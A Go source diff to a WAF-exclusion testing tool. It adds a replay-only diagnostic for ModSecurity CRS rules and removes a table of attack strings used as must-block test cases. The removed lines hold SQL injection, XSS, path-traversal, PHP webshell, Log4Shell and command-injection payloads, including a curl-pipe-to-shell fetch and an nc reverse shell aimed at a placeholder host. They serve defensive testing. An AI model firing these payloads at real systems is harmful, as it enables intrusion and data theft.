@@ -7,7 +7,10 @@ package exclusion
 
 import (
 	"fmt"
+	"slices"
 	"strings"
+
+	"github.com/wafcanary/wafcanary/capture"
 )
 
 // Removal takes one variable away from one rule: what
@@ -45,8 +48,12 @@ func evaluation(id int) bool {
 // narrow says why a matched (rule, target) cannot be excluded narrowly,
 // or "" when it can.
 func narrow(rule int, target string) string {
+	if p, ok := policies[rule]; ok {
+		// allowFor takes every request whose value it can write.
+		return fmt.Sprintf("rule %d enforces CRS's %s policy and matched %s, with a %s that cannot be written into tx.%s (not a plain token, or the list holds a quote): change the list in crs-setup by hand", rule, p.what, shown(target), p.what, p.tx)
+	}
 	if rule/1000 == 920 {
-		return fmt.Sprintf("rule %d is protocol enforcement (920xxx): the request breaks HTTP as CRS enforces it, and no exclusion narrower than the rule itself exists; fix the client, or change the rule knowingly", rule)
+		return fmt.Sprintf("rule %d matched %s: it is protocol enforcement (920xxx), the request breaks HTTP as CRS enforces it, and no exclusion narrower than the rule itself exists; fix the client, or change the rule knowingly", rule, shown(target))
 	}
 	v, key, ok := strings.Cut(target, ":")
 	if !ok || key == "" || !keyed[v] {
@@ -66,43 +73,19 @@ func narrow(rule int, target string) string {
 	return ""
 }
 
-// family is what a CRS rule detects, by its file's number, with the
-// attacks that stand for it in the same variable.
-type family struct {
-	name    string
-	attacks []string
-}
-
-// Attacks per CRS family. Each is tried in the excluded variable; the
-// ones the baseline blocks become must_block cases. SQL injection and XSS
-// are tried for every exclusion, whatever the rule: they are what an
-// opened variable lets through first.
-var (
-	sqli     = family{"SQL injection", []string{"1' OR '1'='1' --", "' UNION SELECT username, password FROM users--", "1; DROP TABLE users--"}}
-	xss      = family{"XSS", []string{"<script>alert(document.cookie)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)"}}
-	families = map[int]family{
-		930: {"path traversal and file access", []string{"../../../../etc/passwd", "..%2f..%2f..%2fetc%2fshadow", "/etc/shadow"}},
-		931: {"remote file inclusion", []string{"http://203.0.113.9/shell.txt?", "ftp://203.0.113.9/x.php"}},
-		932: {"remote command execution", []string{"; cat /etc/passwd", "$(curl http://203.0.113.9/x.sh | sh)", "| nc -e /bin/sh 203.0.113.9 4444"}},
-		933: {"PHP injection", []string{"<?php system($_GET['cmd']); ?>", "php://filter/convert.base64-encode/resource=index.php"}},
-		934: {"generic injection", []string{"require('child_process').exec('id')", "{{constructor.constructor('return process')()}}"}},
-		941: xss,
-		942: sqli,
-		944: {"Java injection", []string{"${jndi:ldap://203.0.113.9/a}", "java.lang.Runtime.getRuntime().exec(\"id\")"}},
+// replayOnly says why rule id, which matched the replayed request, is not
+// what blocked it: the capture's own verdict, reached by this same
+// baseline, does not list it. The replay then differs from the request in
+// what the capture did not keep, such as a body of a type it does not
+// store, and with it the Content-Length whose absence on a POST 920180
+// reports. An exclusion for it would fix the replay, not the request.
+func replayOnly(rec capture.Record, version string, id int) string {
+	if len(rec.Verdict.Rules) == 0 || rec.Version != version || slices.Contains(rec.Verdict.RuleIDs(), id) {
+		return ""
 	}
-)
-
-// familiesFor returns the families whose attacks test an exclusion of
-// rule: its own, then SQL injection and XSS.
-func familiesFor(rule int) []family {
-	out := []family{}
-	if f, ok := families[rule/1000]; ok {
-		out = append(out, f)
+	s := fmt.Sprintf("rule %d matched the replayed request only, not the request as the baseline blocked it (rules %v)", id, rec.Verdict.RuleIDs())
+	if rec.BodyNote != "" {
+		s += ": the capture did not keep the body (" + shown(rec.BodyNote) + "), so the replay is sent without it"
 	}
-	for _, f := range []family{sqli, xss} {
-		if len(out) == 0 || out[0].name != f.name {
-			out = append(out, f)
-		}
-	}
-	return out
+	return s
 }
